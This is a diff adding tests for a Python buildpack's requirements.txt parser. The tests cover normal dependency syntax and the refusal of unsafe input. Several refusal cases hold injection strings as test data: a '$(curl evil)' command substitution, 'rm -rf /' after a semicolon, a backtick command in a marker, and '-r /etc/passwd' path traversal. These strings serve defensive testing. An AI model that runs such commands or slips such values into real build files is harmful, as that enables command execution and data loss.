@@ -1,0 +1,92 @@
+import { describe, expect, test } from 'vitest';
+import { readRequirements } from '../../../buildpacks/python/requirements.ts';
+import { memoryCheckout } from '../../support/checkout.ts';
+
+const read = (files: Record<string, string>, file = 'requirements.txt') => readRequirements(memoryCheckout(files), file);
+const lines = async (text: string) => (await read({ 'requirements.txt': text })).requirements;
+
+describe('what people write in requirements.txt', () => {
+  test.each([
+    ['numpy', ['numpy']],
+    ['numpy==1.22.3  # the last good one', ['numpy==1.22.3']],
+    ['pandas >= 1.2, < 2', ['pandas>=1.2,<2']],
+    ['requests[security,socks]~=2.0', ['requests[security,socks]~=2.0']],
+    ['scipy (>=1.0)', ['scipy>=1.0']],
+    ['numpy==1.*', ['numpy==1.*']],
+    ['tensorflow==2.0 ; python_version < "3.8"', ['tensorflow==2.0 ; python_version < "3.8"']],
+    ['numpy \\\n  >=1.0 \\\n  ,<2', ['numpy>=1.0,<2']],
+    ['\ufeffnumpy'.slice(1), ['numpy']],
+    ['numpy\r\npandas\rscipy', ['numpy', 'pandas', 'scipy']],
+    ['numpy==1.22.3 \\\n    --hash=sha256:abc123 \\\n    --hash=sha256:def456', ['numpy==1.22.3 --hash=sha256:abc123 --hash=sha256:def456']],
+    ['# only a comment\n\n   \n', []],
+    ['numpy @ file:///home/conda/feedstock_root/build_artifacts/numpy_1/work', ['numpy']],
+    ['git+https://github.com/org/pkg.git@v1.0#egg=pkg', ['pkg @ git+https://github.com/org/pkg.git@v1.0']],
+    ['-e git+https://github.com/org/pkg#egg=pkg&subdirectory=python', ['pkg @ git+https://github.com/org/pkg#subdirectory=python']],
+    ['pkg @ https://example.org/pkg-1.0-py3-none-any.whl', ['pkg @ https://example.org/pkg-1.0-py3-none-any.whl']],
+    ['pkg-resources==0.0.0\nnumpy', ['numpy']],
+  ])('%j', async (text, expected) => {
+    expect(await lines(text)).toEqual(expected);
+  });
+
+  test('follows -r and -c relative to the including file, each once', async () => {
+    const found = await read({
+      'requirements.txt': '-r deps/base.txt\n-c limits.txt\npandas',
+      'deps/base.txt': '-r more.txt\nnumpy==1.22.3',
+      'deps/more.txt': '-r ../requirements.txt\nscipy',
+      'limits.txt': 'pandas<2',
+    });
+    expect(found.requirements).toEqual(['scipy', 'numpy==1.22.3', 'pandas']);
+    expect(found.constraints).toEqual(['pandas<2']);
+    expect(found.files).toEqual(['requirements.txt', 'deps/base.txt', 'deps/more.txt', 'limits.txt']);
+    expect(found.pins).toEqual([{ name: 'numpy', version: '1.22.3', file: 'deps/base.txt' }]);
+  });
+
+  test('what needs the repository itself is kept apart', async () => {
+    const found = await read({ 'requirements.txt': '-e .[test]\n./libs/one\nlibs/two.whl\nnumpy', 'libs/one/setup.py': '' });
+    expect(found.local).toEqual([
+      { path: '', extras: '[test]', editable: true, file: 'requirements.txt' },
+      { path: 'libs/one', extras: '', editable: false, file: 'requirements.txt' },
+      { path: 'libs/two.whl', extras: '', editable: false, file: 'requirements.txt' },
+    ]);
+    expect(found.requirements).toEqual(['numpy']);
+  });
+
+  test('an index of its own is taken, and said', async () => {
+    const found = await read({ 'requirements.txt': '--extra-index-url https://download.example.org/whl/cpu\ntorch' });
+    expect(found.indexOptions).toEqual(['--extra-index-url', 'https://download.example.org/whl/cpu']);
+    expect(found.notices).toMatchObject([{ code: 'own-index', file: 'requirements.txt' }]);
+  });
+});
+
+describe('what is refused, with file and line', () => {
+  test.each([
+    ['numpy\nnumpy=1.2', 'bad_environment_file', 'requirements.txt, line 2', 'numpy==1.2'],
+    ['$(curl evil)', 'bad_environment_file', 'line 1', ''],
+    ['numpy; rm -rf /', 'bad_environment_file', 'line 1', 'marker'],
+    ['numpy ; python_version < "3" `id`', 'bad_environment_file', 'line 1', 'marker'],
+    ['-r /etc/passwd', 'unsafe_file', 'outside the repository', ''],
+    ['-r ../../x', 'unsafe_file', 'outside the repository', ''],
+    ['-e ../other', 'unsafe_file', 'outside the repository', ''],
+    ['-r https://example.org/r.txt', 'bad_environment_file', 'not a file of the repository', ''],
+    ['-r missing.txt', 'bad_environment_file', 'does not exist', ''],
+    ['--index-url ftp://example.org', 'bad_environment_file', 'line 1', 'index'],
+    ['--index-url https://user:hunter2@example.org/simple', 'bad_environment_file', 'password', ''],
+    ['git+https://token:x@example.org/a.git', 'bad_environment_file', 'password', 'revoke'],
+    ['--frobnicate', 'bad_environment_file', 'line 1', '--extra-index-url'],
+    [`numpy${' '.repeat(10)}=${'='.repeat(9000)}`, 'bad_environment_file', 'line 1', ''],
+  ])('%j', async (text, code, message, hint) => {
+    const error = await read({ 'requirements.txt': text }).catch((thrown) => thrown);
+    expect(error.code).toBe(code);
+    expect(error.message).toContain(message);
+    expect(error.hint).toContain(hint);
+    expect(error.message + error.hint).not.toContain('hunter2');
+  });
+
+  test('stays fast on a megabyte of anything', async () => {
+    const started = performance.now();
+    for (const text of ['a'.repeat(1e6), `${' '.repeat(1e6)}x`, `numpy${'.'.repeat(1e6)}!`, '[,'.repeat(5e5), '--hash '.repeat(1e5)]) {
+      await read({ 'requirements.txt': text }).catch(() => undefined);
+    }
+    expect(performance.now() - started).toBeLessThan(3000);
+  });
+});
